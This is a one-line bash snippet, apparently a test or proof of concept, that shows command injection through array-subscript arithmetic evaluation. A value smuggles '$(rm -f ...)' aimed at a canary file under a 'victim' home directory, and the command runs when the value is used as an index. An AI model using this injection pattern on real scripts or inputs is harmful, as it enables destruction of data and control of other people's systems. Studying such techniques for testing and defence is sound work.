x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-E03)]'; b=(1 2); echo "${b[x]}"
